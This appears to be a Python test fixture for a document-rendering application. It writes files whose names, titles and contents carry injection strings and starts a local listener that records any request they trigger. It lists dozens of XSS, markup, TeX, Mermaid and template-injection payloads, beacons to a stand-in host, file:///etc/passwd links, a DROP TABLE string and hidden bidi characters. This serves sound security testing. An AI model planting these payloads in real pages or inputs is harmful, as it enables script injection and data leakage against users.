"""Texts that try to be more than text: what is planted into documents, names and questions, and who they call home."""

import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from html import escape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

PASSAGE = Path(__file__).parent / "data" / "hostile_passage.md"
VECTORS = (
    "<script>document.title='XSS-script'</script>",
    "<script src=http://HOME/beacon-script.js></script>",
    "<img src=x onerror=\"document.title='XSS-onerror'\">",
    "\"><img src=http://HOME/beacon-quote.png onerror=document.title='XSS-quote'>",
    "'><svg/onload=document.title='XSS-svg'>",
    "</textarea><img src=x onerror=document.title='XSS-textarea'>",
    "</title></style></script><img src=http://HOME/beacon-close.png>",
    "--><img src=http://HOME/beacon-comment.png><!--",
    "<!-- a comment --><b>and bold</b><!",
    "<![CDATA[<img src=http://HOME/beacon-cdata.png>]]>",
    "<iframe src=\"javascript:parent.document.title='XSS-frame'\"></iframe>",
    "<iframe srcdoc=\"<script>parent.document.title='XSS-srcdoc'</script>\"></iframe>",
    "<object data=http://HOME/beacon-object></object><embed src=http://HOME/beacon-embed>",
    "<meta http-equiv=refresh content='0;url=http://HOME/beacon-refresh'>",
    "<base href=http://HOME/><link rel=stylesheet href=http://HOME/beacon.css>",
    "<link rel=prefetch href=http://HOME/beacon-prefetch><link rel=preconnect href=http://HOME>",
    "<style>@import 'http://HOME/beacon-import.css'; *{background:url(http://HOME/b.png)}</style>",
    '<div style="position:fixed;inset:0;z-index:9999;background:url(http://HOME/beacon-style.png)">over</div>',
    "<form action=http://HOME/form><input name=a type=password autofocus onfocus=document.title='XSS-focus'>",
    "<button formaction=\"javascript:document.title='XSS-action'\">Sign in</button><select autofocus>",
    "<input type=image src=http://HOME/beacon-input.png><isindex type=image src=1 onerror=alert(1)>",
    "<video autoplay src=http://HOME/v.mp4 poster=http://HOME/beacon-poster.png onerror=alert(1)>",
    "<audio autoplay src=http://HOME/beacon.mp3><track src=http://HOME/beacon.vtt></audio>",
    "<picture><source srcset=http://HOME/beacon-set.png><img src=data:,></picture>",
    "<body background=http://HOME/beacon-body.png onload=document.title='XSS-body'>",
    "<details open ontoggle=document.title='XSS-toggle'><summary>t</summary></details>",
    "<marquee onstart=document.title='XSS-marquee'>x</marquee><dialog open>d</dialog>",
    "<svg><image href=http://HOME/beacon-image.png /><use href='data:image/svg+xml,#x'/></svg>",
    "<svg><animate onbegin=document.title='XSS-animate' attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='XSS-noscript'>\">",
    "<template shadowrootmode=open><img src=http://HOME/beacon-shadow.png></template><slot>",
    "<form id=qa-panel><input name=querySelector></form><a id=qa-chat name=body>clobber</a>",
    "&lt;img src=http://HOME/beacon-entity.png onerror=document.title='XSS-entity'&gt;",
    "&#60;img src=http://HOME/beacon-number.png&#62; &amp;lt;script&amp;gt;",
    "\\u003cimg src=http://HOME/beacon-escaped.png\\u003e %3Cscript%3Ealert(1)%3C/script%3E",
    "<<script>alert(1)//<</script> <img/src=`x`onerror=alert(1)> <x onclick=alert(1) tabindex=1>click",
    "![beacon](http://HOME/beacon-md.png?leak=abc) ![x](/gradio_api/file=http://HOME/beacon-file)",
    "[click](javascript:document.title='XSS-link') [tab](java\tscript:alert(1)) [d](data:text/html,hi) [tel](tel:1)",
    '[file](file:///etc/passwd) [ext](https://evil.example/phish "title") <https://evil.example/auto> www.evil.example',
    "[ref][r1] ![ref][r1] [r1]: http://HOME/beacon-ref.png",
    "[^1]: http://HOME/beacon-foot.png and [^1] ^[inline](javascript:alert(1))",
    "# A heading? ## No `code` **bold** __bold__ ~~gone~~ *it* | a | b | --- > quote - list 1. item",
    "```html <img src=http://HOME/beacon-fence.png> ``` ~~~mermaid graph TD; A-->B ~~~",
    '```mermaid graph TD; A[<img src=http://HOME/beacon-mermaid.png>]; click A "javascript:alert(1)" ```',
    "$$\\href{javascript:document.title='XSS-tex'}{x}$$ \\(\\includegraphics{http://HOME/beacon-tex.png}\\)",
    "$\\url{javascript:alert(1)}$ \\[\\htmlClass{x}{y}\\] \\begin{equation}\\unicode{x3c}\\end{equation}",
    "{{constructor.constructor('document.title=1')()}} ${alert(1)} #{7*7} <%= 7*7 %> {@html x}",
    '"}],"kind":"problem","key":"errors.request" \\" \\\\ \';DROP TABLE feedback;--',
    "__proto__ constructor toString hasOwnProperty null undefined NaN",
    "javascript:document.title='XSS-bare' data:text/html,<script>alert(1)</script> file:///etc/passwd tel:112",
    "mailto:a@evil.example http://HOME/beacon-bare //HOME/beacon-scheme",
    ":smile: @user #123 :::danger x::: [[wiki]] [x] ==mark== H~2~O x^2^ *[HTML]: abbr",
)
"""HOME stands for the listener of a test. After OWASP's cheat sheet, and what readers of Markdown, TeX and Mermaid take
for their own; one line each."""

_LINES = r"""
# One ## two ### three
Setext === and --- below
> quoted > > twice
- a - b + c * d
1) one 2) two
[link](http://a.example 'b') and ![image](c.png)
[a]: http://a.example
[x] done [ ] not done
| a | b | |---|---| | 1 | 2 |
``` python print(1) ```
~~~ tilde ~~~
four blanks before, and after
a  two blanks at the end
\* not \_ these \[ \] \( \) \# \! \\
*** --- ___ * * *
<http://a.example>
http://a.example/?a=1&b=2#c www.a.example a@b.example
&amp; &lt; &#35; &nbsp; &copy; &hearts; &notit;
a<b>c a < b > c a<=b>=c x<y, y>z
<!DOCTYPE html> <?xml version='1.0'?> <![CDATA[x]]>
</div></div></p>
graph TD; A[One]-->B{Two}; B-->|yes|C
sequenceDiagram Alice->>Bob: Hi
flowchart LR a --> b & c
```mermaid pie title x "a" : 1 ```
%%{init: {'theme':'dark'}}%% gantt
{{ handlebars }} {% jinja %} {# no #}
${template} #{ruby} <%= erb %> @{razor}
Terms^[a note] and [^1] [^1]: note
:::note x ::: :+1: :smile:
C:\dir\new\table.txt /a/b/../c
\n \t \u0041 \x41 %20 %C3%A9
1.5e-3 ± 2 × 3 ÷ 4 ≤ 5 ∑ ∞
fi ﬂ ﬁ ½ № ™ …
line one --- em -- en - hyphen
“Quoted” ‘single’ «angles» „low“ 「鈎」
a*b*c a_b_c 2*3*4 snake_case_name
5 * 4 * 3 and 5_4_3
*a **b* c**
_a __b_ c__
`a ``b` c``
![](x)[](y)![
]( [ ]( )[
<a href=x
a>b</
+ plus . dot ) bracket
Ünïcödé *é* _ü_
金额*一*万 _元_ $人$
سعر *واحد* $س$
цена *один* $ц$
"""
"""A line each that looks like Markdown, HTML or Mermaid."""

UNSEEN = (
    "bidi \u202e<img src=x>\u202c \u2066isolate\u2069 \u200f",
    "zero\u200bwidth\u200d\u2060\ufeff <scr\u200bipt>",
    "tags \U000e0041\U000e0042 nonchar \uffff private \ue000 \ufffd",
)
"""With characters that are not seen, or that turn what stands around them."""


@dataclass(frozen=True)
class Listener:
    """A server that notes every request. `/control` answers with the hostile passage as HTML."""

    port: int
    hits: list[str] = field(default_factory=list)

    def aimed(self, text: str) -> str:
        """The text, calling this listener."""
        return re.sub(r"\bHOME\b|127\.0\.0\.1:(?:9|18999)\b", f"127.0.0.1:{self.port}", text)

    @property
    def passage(self) -> str:
        """The hostile passage."""
        return self.aimed(PASSAGE.read_text("utf-8"))

    @property
    def vectors(self) -> list[str]:
        """Each hostile text, a line."""
        return [self.aimed(text) for text in VECTORS]


@contextmanager
def listening() -> Iterator[Listener]:
    """A listener on a port of its own."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            is_control = self.path == "/control"
            if not is_control:
                listener.hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8" if is_control else "text/plain")
            self.end_headers()
            self.wfile.write(f"<title>quiet</title>{listener.passage}".encode() if is_control else b"")

        do_POST = do_HEAD = do_GET  # noqa: N815 - the base class has these names

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        listener = Listener(server.server_address[1])
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield listener
        server.shutdown()
        thread.join()


def hostile_name(kind: str) -> str:
    """The name of a file, as hostile as a file system lets it be."""
    return f"\"><img src=x onerror=document.title='XSS-name'>[x](javascript:alert(1))`$x$\u202e&lt;{kind}"


def write_corpus(folder: Path, listener: Listener) -> None:
    """Documents whose names, titles, symbols, headings, paragraphs and cells are hostile, two versions of one among
    them, and one whose paragraphs only look like Markdown, TeX, HTML and Mermaid."""
    vectors = listener.vectors
    numbered = "\n\n".join(f"{number}. {text}" for number, text in enumerate([*vectors, *UNSEEN], 1))
    countries = "\n\n".join(
        f"{number}. In {country}, unexplained wealth orders are in use <b>{text}</b>."
        for number, (country, text) in enumerate(zip(("Zimbabwe", "France", "Kenya"), vectors[2:5], strict=True), 1)
    )
    rows = "".join(f"<tr><td>{escape(text)}</td><td>{escape(text[::-1])}</td></tr>" for text in vectors)
    headed = "".join(
        f"<h2>{escape(text)}</h2><p>{n}. Said of money: {escape(text)}</p>" for n, text in enumerate(vectors)
    )
    files = {
        hostile_name(".txt"): f"{vectors[3]}\n\n{numbered}\n",
        "passage.txt": listener.passage,
        "marked.md": f"{listener.passage}\n\nWhat is left of it is text.\n",
        "countries.txt": f"Unexplained wealth orders\n\n{countries}\n",
        "table.html": f"<h1>{escape(vectors[2])}</h1><table>{rows}</table>",
        "two.en.html": f'<html lang="en"><title>{escape(vectors[0])}</title><h1>{escape(vectors[0])}</h1>{headed}',
        "two.fr.html": f'<html lang="fr"><title>{escape(vectors[1])}</title><h1>{escape(vectors[1])}</h1>{headed}',
        "fidelity.txt": "Notation\n\n" + "".join(f"{n}. {text}\n\n" for n, text in enumerate(fidelity(), 1)),
    }
    for name, text in files.items():
        (folder / name).write_text(text, "utf-8")
    for language in ("en", "fr"):
        (folder / f"two.{language}.meta.toml").write_text(_about(vectors, language), "utf-8")


def _about(vectors: list[str], language: str) -> str:
    values = {"title": vectors[2], "symbol": vectors[37], "language": language, "version_of": vectors[5]}
    return "date = 2021-05-21\n" + "".join(f"{key} = {json.dumps(value)}\n" for key, value in values.items())


def fidelity() -> list[str]:
    """Lines that look like Markdown, TeX, HTML and Mermaid, and have to be shown to the letter."""
    marks = ("*", "_", "**", "__", "***", "~~", "`", "``", "^", "~", "==", "||", "$", "$$", ":", "'", '"')
    tags = (
        "b",
        "i",
        "u",
        "s",
        "sub",
        "sup",
        "code",
        "pre",
        "p",
        "div",
        "span",
        "h1",
        "br",
        "hr",
        "td",
        "q",
        "bdo",
        "x-y",
    )
    commands = (
        r"\alpha + \beta \leq \gamma", r"\frac{a_1}{b^2}", r"\sqrt[3]{x}", r"\sum_{i=0}^{n} x_i", r"\text{a \& b}",
        r"\begin{matrix} a & b \\ c & d \end{matrix}", r"\left( \frac{1}{2} \right)", r"\% \$ \# \_ \{ \}",
        r"\ce{H2O}", r"\textbf{bold} \emph{it}", r"\cite{key}\footnote{note}", r"\\ \, \; \! \quad",
    )  # fmt: skip
    texts = [f"Between {mark}marks{mark} and {mark} alone {mark}x" for mark in marks]
    texts += [f"Tag <{tag}>inside</{tag}> and <{tag} class='x' id=y/> alone" for tag in tags]
    texts += [
        pattern.format(command) for command in commands for pattern in ("Inline ${}$ here", r"Display \[ {} \] here")
    ]
    return texts + [f"Line {text}" for text in _LINES.strip().splitlines()]
